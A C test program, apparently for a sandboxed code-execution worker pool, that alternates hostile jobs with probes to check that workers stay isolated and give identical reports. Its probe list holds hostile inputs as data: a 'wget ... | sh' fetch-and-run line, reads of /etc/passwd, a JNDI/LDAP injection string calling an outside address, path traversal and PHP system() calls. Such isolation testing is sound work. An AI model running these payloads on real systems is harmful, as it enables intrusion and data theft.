/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * A job after a hostile one gives the same report, byte for byte, as in a fresh worker; a worker killed from outside is
 * replaced by one that gives it too. With the real konseki-emu: hostile jobs and probes in turn.
 * usage: again KONSEKI-EMU CONFIG [ALTERNATIONS [SEED]]
 */
#include "control/queue/pool.h"
#include "tests/native/hostile.h"

#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

enum { PROBE_ID = 1, HOSTILE_ID = 2, PATIENCE_S = 90, SHORT = 150, SLOWEST = 5 };

static const struct { enum language language; const char *code; } probes[] = {
	{ LANGUAGE_SHELL, "id; echo $$ $PPID $RANDOM; date; echo x > /tmp/probe; ls -la /tmp /; env; cat /etc/passwd" },
	{ LANGUAGE_SHELL, "wget http://203.0.113.9/x -O- | sh; ping -c1 198.51.100.7; sleep 3; echo slept" },
	{ LANGUAGE_SHELL, "for i in 1 2 3 4; do (echo $i | md5sum) & done; wait; head -c 8 /dev/urandom | base64" },
	{ LANGUAGE_SHELL, "awk 'BEGIN { print sqrt(2), sin(1), exp(1), 1/3; srand(); print rand() }'; ulimit -a; trap; umask; cat /proc/self/status" },
	{ LANGUAGE_JNDI, "${jndi:ldap://203.0.113.9/${env:HOME}/${sys:user.name}}" },
	{ LANGUAGE_PATH, "../../../../etc/passwd" },
	{ LANGUAGE_PHP, "<?php echo md5('a'), PHP_OS, getcwd(), memory_get_usage(), rand(); print_r($_SERVER); system('id; ls -la /tmp');" },
	{ LANGUAGE_PERL, "print 6*7, $$, join(',', sort keys %ENV), rand(), `ls /tmp`, sprintf('%.20g', 1/3)" },
	{ LANGUAGE_PYTHON, "import os,sys\nprint(os.getpid(), os.listdir('/tmp'), sys.path, hash('a'), 1/3)" },
	{ LANGUAGE_ELF, NULL }, /* what a processor was left as: probe_program */
};
static const char *const profiles[] = { "busybox", "container", "debian", "rhel" };
enum { PROBES = COUNT_OF(probes), PROFILES = COUNT_OF(profiles) };

/*
 * push flags, mxcsr, the float control and status words, and what a division leaves; write them, with the memory
 * behind the program, to 1; exit.
 */
static const uint8_t probe_program[] = {
	0x9c, 0x48, 0x83, 0xec, 0x28, 0x0f, 0xae, 0x1c, 0x24, 0xd9, 0x7c, 0x24, 0x04, 0xdd, 0x7c, 0x24, 0x06, 0xd9, 0xe8, 0xd9, 0xeb, 0xde, 0xf9,
	0xdb, 0x7c, 0x24, 0x08, 0x0f, 0x11, 0x44, 0x24, 0x12, 0x8c, 0xd8, 0x66, 0x89, 0x44, 0x24, 0x22, 0x8c, 0xe0, 0x66, 0x89, 0x44, 0x24, 0x24,
	0xb8, 1, 0, 0, 0, 0xbf, 1, 0, 0, 0, 0x48, 0x89, 0xe6, 0xba, 0x30, 0, 0, 0, 0x0f, 0x05, /* write(1, rsp, 48) */
	0xb8, 1, 0, 0, 0, 0xbe, 0, 0x80, 0x40, 0, 0xba, 0, 2, 0, 0, 0x0f, 0x05,                /* write(1, 0x408000, 512) */
	0xb8, 231, 0, 0, 0, 0x31, 0xff, 0x0f, 0x05,
};

static struct {
	struct pool *pool;
	struct bytes want[PROBES][PROFILES]; /* what a fresh worker answers */
	unsigned stopped[STOPPED_COUNT];
	struct { double ms; char name[128]; } slow[SLOWEST];
	uint64_t probes, hostiles;
} all;

static double now_ms(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec * 1e3 + (double)t.tv_nsec / 1e6;
}

static int ask(enum language language, struct bytes code, const char *profile, uint64_t id, struct answer *ret)
{
	const struct job j = { .id = id, .language = language, .code = code, .profile = bytes_text(profile), .runs = true,
		.seed = 99 };

	return pool_ask(all.pool, &j, UINT64_C(1000000000) * PATIENCE_S, ret);
}

/* The report without the times of the host, as bytes; the caller frees. */
static struct bytes told(const struct report *r)
{
	static struct run runs[REPORT_RUNS_MAX];
	uint8_t *raw = malloc(REPORT_MAX);
	struct sink s = sink_over(raw, raw != NULL ? REPORT_MAX : 0);
	struct report bare = *r;
	struct bytes ret = { 0 };

	for (uint32_t i = 0; i < r->runs_count; i++) {
		runs[i] = r->runs[i];
		runs[i].host_ns = 0;
	}
	bare.host_ns = 0;
	bare.runs = runs;
	report_encode(&s, &bare);
	if (sink_done(&s, &ret) < 0) {
		fprintf(stderr, "a report is too long\n");
		exit(3);
	}
	return ret;
}

static void bytes_drop(struct bytes b)
{
	free((uint8_t *)(uintptr_t)b.at);
}

static int ask_probe(unsigned which, unsigned profile, struct answer *ret)
{
	static struct hostile program;

	if (probes[which].code != NULL)
		return ask(probes[which].language, bytes_text(probes[which].code), profiles[profile], PROBE_ID, ret);
	if (program.len == 0)
		hostile_wrap("probe", bytes_of(probe_program, sizeof(probe_program)), &program);
	return ask(LANGUAGE_ELF, bytes_of(program.code, program.len), profiles[profile], PROBE_ID, ret);
}

/* Interpreters are slow to warm up in a worker that is new: their turn comes less often. */
static unsigned likely_probe(uint64_t *state)
{
	unsigned which = (unsigned)chance_below(state, PROBES);

	return probes[which].language == LANGUAGE_PYTHON || probes[which].language == LANGUAGE_PHP || probes[which].language == LANGUAGE_PERL ?
	    (unsigned)chance_below(state, PROBES) : which;
}

/* 1: the answer differs from a fresh worker's, or there is none. */
static int probe(unsigned which, unsigned profile, const char *after)
{
	struct bytes *want = &all.want[which][profile], got;
	struct answer a;
	int differs;

	if (ask_probe(which, profile, &a) < 0) {
		fprintf(stderr, "no answer after: %s\n", after);
		return 1;
	}
	got = told(a.report);
	/* what a profile has no program for is told alike too */
	differs = a.report->stopped_by == STOPPED_DIED || a.report->stopped_by == STOPPED_WATCHDOG ||
	    (want->left > 0 && !bytes_equal(got, *want));
	if (differs)
		fprintf(stderr, "DIFFERS (%s): probe %u in %s, after: %s\n", stopped_by_name(a.report->stopped_by), which,
		        profiles[profile], after);
	if (want->left == 0)
		*want = got;
	else
		bytes_drop(got);
	answer_free(&a);
	all.probes++;
	return differs;
}

/* Waits for a worker other than this one; 0: none came. */
static pid_t worker_after(pid_t old)
{
	for (unsigned tries = 0; tries < 20000; tries++) {
		pid_t pid = pool_worker_pid(all.pool, 0);

		if (pid != 0 && pid != old)
			return pid;
		if (pool_step(all.pool, 0) < 0)
			return 0;
		usleep(1000);
	}
	return 0;
}

/* Ends the worker, which is idle; the zygote puts another in its place. */
static int replace(void)
{
	pid_t pid = worker_after(0);

	if (pid == 0 || kill(pid, SIGKILL) < 0)
		return 1;
	return worker_after(pid) == 0;
}

/* The answer of a worker that served nobody before, where it is not known yet. */
static int learn(unsigned which, unsigned profile)
{
	return all.want[which][profile].left > 0 ? 0 : replace() + probe(which, profile, "nothing");
}

static void note_time(const char *name, double ms)
{
	for (unsigned i = 0; i < SLOWEST; i++) {
		if (ms <= all.slow[i].ms)
			continue;
		memmove(&all.slow[i + 1], &all.slow[i], (SLOWEST - 1 - i) * sizeof(all.slow[0]));
		all.slow[i].ms = ms;
		snprintf(all.slow[i].name, sizeof(all.slow[i].name), "%s", name);
		return;
	}
}

static int hostile(const struct hostile *h, const char *profile)
{
	double began = now_ms();
	struct answer a;

	if (ask(h->language, bytes_of(h->code, h->len), profile, HOSTILE_ID, &a) < 0) {
		fprintf(stderr, "no answer to: %s\n", h->name);
		return 1;
	}
	all.stopped[a.report->stopped_by]++;
	all.hostiles++;
	note_time(h->name, now_ms() - began);
	answer_free(&a);
	return 0;
}

/* Dies of a signal from outside, idle and, as its job may come too early for its end to be seen, at work. */
static int killed(void)
{
	struct answer a;
	int failures = replace() + probe(0, 0, "SIGKILL from outside");

	pid_t pid = worker_after(0);

	if (pid == 0 || kill(pid, SIGKILL) < 0 || ask_probe(0, 0, &a) < 0)
		return failures + 1;
	answer_free(&a);
	return failures + probe(0, 0, "SIGKILL at work");
}

static void show(unsigned long alternations)
{
	printf("%lu alternations, %llu hostile jobs, %llu probes\n", alternations, (unsigned long long)all.hostiles,
	       (unsigned long long)all.probes);
	for (unsigned i = 0; i < STOPPED_COUNT; i++) {
		if (all.stopped[i] > 0)
			printf("  %-14s %u\n", stopped_by_name((enum stopped_by)i), all.stopped[i]);
	}
	for (unsigned i = 0; i < SLOWEST; i++)
		printf("  %8.0f ms  %s\n", all.slow[i].ms, all.slow[i].name);
}

int main(int argc, char **argv)
{
	static struct hostile h;
	unsigned long alternations = argc > 3 ? strtoul(argv[3], NULL, 10) : SHORT;
	uint64_t state = argc > 4 ? strtoul(argv[4], NULL, 10) : 1;
	int failures;

	if (argc < 3)
		return 2;
	if (pool_start(argv[1], argv[2], 1, &all.pool) < 0)
		return 3;
	failures = learn(0, 0);
	for (unsigned long i = 0; i < alternations && failures < 20; i++) {
		uint64_t begun = state;
		unsigned which = likely_probe(&state), profile = (unsigned)chance_below(&state, PROFILES);

		failures += learn(which, profile);
		hostile_make(&state, &h);
		failures += hostile(&h, profiles[chance_below(&state, PROFILES)]);
		if (probe(which, profile, h.name) != 0) {
			fprintf(stderr, "  again alone: seed %llu\n", (unsigned long long)begun);
			failures++;
		}
		if (i % 500 == 499) {
			printf("%lu, %d failures\n", i + 1, failures);
			fflush(stdout);
		}
	}
	failures += killed();
	pool_close(all.pool);
	for (unsigned i = 0; i < PROBES * PROFILES; i++)
		bytes_drop(all.want[i / PROFILES][i % PROFILES]);
	show(alternations);
	printf("%d failures\n", failures);
	return failures > 0;
}
